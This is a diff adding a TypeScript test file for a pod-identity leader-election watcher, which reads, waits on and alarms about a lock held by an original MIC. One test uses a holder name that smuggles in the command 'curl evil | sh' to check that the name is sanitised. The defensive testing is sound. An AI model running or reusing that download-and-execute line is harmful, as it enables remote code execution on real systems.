@@ -1,0 +1,283 @@
+import type { LeaderTerm } from '@pod-identity/kit/kube';
+import { createFakeClock } from '@pod-identity/kit/testing';
+import { describe, expect, test } from 'vitest';
+import { createFakeLog } from '../apply/test/fake-log.ts';
+import { lockAnnotation, readLock, type LockReading } from './lock.ts';
+import { createOriginalWatch, whoRenews } from './original-watch.ts';
+
+const minute = 60_000;
+
+/** What Endpoints of the original say. */
+function endpoints(holderIdentity: unknown, renewTime: unknown = '2026-01-01T00:00:00Z'): object {
+  const record = { holderIdentity, leaseDurationSeconds: 15, renewTime, leaderTransitions: 3 };
+  return { metadata: { annotations: { [lockAnnotation]: JSON.stringify(record) } } };
+}
+
+const refused: LockReading = { kind: 'unreadable', isPassing: false, why: 'forbidden' };
+const silent: LockReading = { kind: 'unreadable', isPassing: true, why: 'no answer' };
+
+function setUp({ hasLed = false }: { readonly hasLed?: boolean | undefined } = {}) {
+  const clock = createFakeClock(1_000_000);
+  const log = createFakeLog();
+  const events: string[] = [];
+  const running: boolean[] = [];
+  const stopping = new AbortController();
+  let look: () => LockReading = () => ({ kind: 'free' });
+  let looks = 0;
+  const reader = {
+    look: () => {
+      looks += 1;
+      return Promise.resolve(look());
+    },
+    hasLed: () => Promise.resolve(hasLed),
+  };
+  const watch = createOriginalWatch({
+    ...{ reader, clock, log },
+    lock: { namespace: 'default', name: 'aad-pod-identity-mic' },
+    lease: { namespace: 'aad-pod-identity', name: 'aad-pod-identity-mic' },
+    events: {
+      record: ({ reason, message, involved }, _onEnd, mayWrite) => {
+        if (mayWrite?.() !== false) events.push(`${involved.kind} ${involved.name}: ${reason}: ${message}`);
+      },
+      flush: () => Promise.resolve(),
+    },
+    onRunning: (isRunning) => void running.push(isRunning),
+  });
+  let startedAt: number | undefined;
+  const begunAt = clock.elapsed();
+  return {
+    ...{ clock, log, events, running, reader, watch },
+    looks: () => looks,
+    /** The lock is renewed whenever `isRenewed` says so, and looked at. */
+    shows: (reading: () => LockReading) => void (look = reading),
+    standBy: () => void watch.standBy(stopping.signal).then(() => (startedAt = clock.elapsed() - begunAt)),
+    startedAt: () => startedAt,
+    stop: () => stopping.abort(),
+    said: (text: RegExp) => log.lines.filter(({ message }) => text.test(message)).length,
+  };
+}
+
+/** Somebody renews every 3.75 s until then. */
+function renewedUntil(clock: { elapsed(): number }, until: number): () => LockReading {
+  return () => {
+    const beat = Math.floor(Math.min(clock.elapsed(), until) / 3_750);
+    return readLock(endpoints('mic-7d9f-abcde', new Date(beat * 3_750).toISOString()));
+  };
+}
+
+function leading() {
+  const ending = new AbortController();
+  const work = Promise.withResolvers<undefined>();
+  const term: LeaderTerm = { signal: ending.signal, holds: () => !ending.signal.aborted };
+  const end = () => {
+    ending.abort();
+    work.resolve(undefined);
+  };
+  return { term, work: work.promise, end };
+}
+
+describe('reading the lock', () => {
+  test.each([
+    ['no annotations', { metadata: {} }],
+    ['no holder', endpoints('')],
+    ['no JSON', { metadata: { annotations: { [lockAnnotation]: 'mic' } } }],
+    ['a list', { metadata: { annotations: { [lockAnnotation]: '[]' } } }],
+    ['a holder that is no text', endpoints({ name: 'x' })],
+    ['a time that is no text', endpoints('mic', 7)],
+  ])('with %s it is free', (_what, object) => {
+    expect(readLock(object)).toEqual({ kind: 'free' });
+  });
+
+  test('a holder is named by its name only, whatever somebody has written there', () => {
+    expect(readLock(endpoints('mic-0'))).toMatchObject({ kind: 'held', holder: 'mic-0' });
+    expect(readLock(endpoints('mic\nrun: curl evil | sh'))).toMatchObject({ holder: 'unknown' });
+    expect(readLock(endpoints('x'.repeat(129)))).toMatchObject({ holder: 'unknown' });
+  });
+});
+
+describe('the first start', () => {
+  test('without a lock of the original is at once', async () => {
+    const { clock, standBy, startedAt } = setUp();
+    standBy();
+    await clock.advance(0);
+    expect(startedAt()).toBe(0);
+  });
+
+  test('stands by while the original renews its lock, and starts when it has not for 15 s', async () => {
+    const { clock, shows, standBy, startedAt, said } = setUp();
+    shows(renewedUntil(clock, clock.elapsed() + minute));
+    standBy();
+    await clock.advance(minute + 12_000);
+    expect(startedAt()).toBeUndefined();
+    expect(said(/standing by/)).toBe(1);
+    await clock.advance(8_000);
+    expect(startedAt()).toBeGreaterThan(minute + 10_000);
+    expect(said(/not renewed any more/)).toBe(1);
+  });
+
+  test('a lock that the original left behind costs 15 s', async () => {
+    const { clock, shows, standBy, startedAt } = setUp();
+    shows(() => readLock(endpoints('mic-0')));
+    standBy();
+    await clock.advance(14_999);
+    expect(startedAt()).toBeUndefined();
+    await clock.advance(1);
+    expect(startedAt()).toBe(15_000);
+  });
+
+  test('attack: a forged lock that is renewed for ever delays it by 5 minutes, and then raises the alarm', async () => {
+    const { clock, shows, standBy, startedAt, said, watch, events, running } = setUp();
+    shows(renewedUntil(clock, Infinity));
+    standBy();
+    await clock.advance(5 * minute - 1);
+    expect(startedAt()).toBeUndefined();
+    await clock.advance(1);
+    expect(startedAt()).toBe(5 * minute);
+    expect(said(/starts all the same/)).toBe(1);
+    const { term, work } = leading();
+    void watch.beside(term, work);
+    await clock.advance(0);
+    expect(events).toEqual([
+      expect.stringMatching(
+        /^Lease aad-pod-identity-mic: OriginalRunning: .*mic-7d9f-abcde renews the lock default\/aad-pod-identity-mic/,
+      ),
+    ]);
+    expect(running).toEqual([true]);
+  });
+
+  test('attack: a lock whose holder and times change in any way at all delays it no longer than that', async () => {
+    const { clock, shows, standBy, startedAt } = setUp();
+    let look = 0;
+    const ways = [
+      endpoints('a', '9999-12-31T23:59:59Z'),
+      endpoints(''),
+      endpoints('b', ''),
+      { metadata: {} },
+      endpoints('a', 'x'.repeat(3_000)),
+    ];
+    // One that is free is an end of the wait, so that it is never the first that is seen.
+    shows(() => readLock(ways[(look++ * 2) % ways.length] ?? {}));
+    standBy();
+    await clock.advance(5 * minute);
+    expect(startedAt()).toBeLessThanOrEqual(5 * minute);
+  });
+
+  test('of a MIC where one of ours has led before is at once, whatever the lock says', async () => {
+    const { clock, shows, standBy, startedAt, looks } = setUp({ hasLed: true });
+    shows(renewedUntil(clock, Infinity));
+    standBy();
+    await clock.advance(0);
+    expect([startedAt(), looks()]).toEqual([0, 0]);
+  });
+
+  test('without the right to read the lock is at once, and that is said once', async () => {
+    const { clock, shows, standBy, startedAt, said, watch } = setUp();
+    shows(() => refused);
+    standBy();
+    await clock.advance(0);
+    expect(startedAt()).toBe(0);
+    const { term, work } = leading();
+    void watch.beside(term, work);
+    await clock.advance(10 * minute);
+    expect(said(/cannot be read/)).toBe(1);
+  });
+
+  test('waits for the word of an API server that does not answer, 5 minutes at most', async () => {
+    const { clock, shows, standBy, startedAt } = setUp({ hasLed: undefined });
+    shows(() => silent);
+    standBy();
+    await clock.advance(5 * minute - 1);
+    expect(startedAt()).toBeUndefined();
+    await clock.advance(1);
+    expect(startedAt()).toBe(5 * minute);
+  });
+
+  test('ends with the process, and leaves no timer', async () => {
+    const { clock, shows, standBy, startedAt, stop } = setUp();
+    shows(renewedUntil(clock, Infinity));
+    standBy();
+    await clock.advance(minute);
+    stop();
+    await clock.advance(0);
+    expect(startedAt()).toBe(minute);
+    expect(clock.pending).toBe(0);
+  });
+});
+
+describe('a leader', () => {
+  test('says that the original runs when it comes later, once, and that it has gone', async () => {
+    const { clock, shows, watch, events, running, said } = setUp();
+    const { term, work, end } = leading();
+    let isOver = false;
+    void watch.beside(term, work).then(() => (isOver = true));
+    await clock.advance(10 * minute);
+    expect([events, running]).toEqual([[], []]);
+    shows(renewedUntil(clock, clock.elapsed() + 5 * minute));
+    await clock.advance(4 * minute);
+    expect([events.length, running, said(/runs too/)]).toEqual([1, [true], 1]);
+    await clock.advance(3 * minute);
+    expect([running, said(/does not renew/)]).toEqual([[true, false], 1]);
+    end();
+    await clock.advance(0);
+    expect(isOver).toBe(true);
+    expect(clock.pending).toBe(0);
+  });
+
+  test('takes a lock that was renewed until ours could start for no alarm', async () => {
+    const { clock, shows, standBy, startedAt, watch, events } = setUp();
+    shows(renewedUntil(clock, clock.elapsed() + 20_000));
+    standBy();
+    await clock.advance(minute);
+    expect(startedAt()).toBeDefined();
+    const { term, work } = leading();
+    void watch.beside(term, work);
+    await clock.advance(5 * minute);
+    expect(events).toEqual([]);
+  });
+
+  test('whose term is over says nothing, and fails as its work does', async () => {
+    const { clock, shows, watch, events } = setUp();
+    shows(renewedUntil(clock, Infinity));
+    const { term, work, end } = leading();
+    void watch.beside(term, work);
+    await clock.advance(1_000);
+    end();
+    await clock.advance(minute);
+    expect(events).toEqual([]);
+    await expect(watch.beside(leading().term, Promise.reject(new Error('bug')))).rejects.toThrow('bug');
+  });
+});
+
+describe('explain', () => {
+  const signal = new AbortController().signal;
+
+  test.each([
+    { what: 'nobody', reading: () => readLock({ metadata: {} }), ms: 0 },
+    { what: 'nobody that may be read', reading: () => refused, ms: 0 },
+    {
+      what: 'one that left it long ago',
+      reading: () => readLock(endpoints('mic-0', '1970-01-01T00:00:00Z')),
+      ms: 0,
+    },
+    {
+      what: 'one that does not renew it',
+      reading: () => readLock(endpoints('mic-0', '1970-01-01T00:16:00Z')),
+      ms: 7_500,
+    },
+  ])('looks at a lock held by $what', async ({ reading, ms }) => {
+    const { clock, reader, shows } = setUp();
+    shows(reading);
+    const asked = whoRenews({ reader, clock }, signal);
+    await clock.advance(ms);
+    expect(await asked).toBeUndefined();
+    expect(clock.pending).toBe(0);
+  });
+
+  test('names who renews it', async () => {
+    const { clock, reader, shows } = setUp();
+    shows(renewedUntil(clock, Infinity));
+    const asked = whoRenews({ reader, clock }, signal);
+    await clock.advance(7_500);
+    expect(await asked).toBe('mic-7d9f-abcde');
+  });
+});
